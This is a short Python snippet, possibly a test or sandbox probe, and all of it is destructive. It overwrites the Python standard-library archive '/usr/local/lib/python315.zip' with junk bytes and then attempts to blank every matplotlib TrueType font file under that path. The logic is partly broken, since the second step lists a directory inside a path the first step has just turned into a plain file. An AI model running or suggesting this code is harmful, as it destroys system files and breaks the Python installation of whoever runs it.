open('/usr/local/lib/python315.zip', 'wb').write(b'gone')
import os
for name in os.listdir('/usr/local/lib/python315.zip/matplotlib/mpl-data/fonts/ttf'):
    open('/usr/local/lib/python315.zip/matplotlib/mpl-data/fonts/ttf/' + name, 'wb').write(b'')
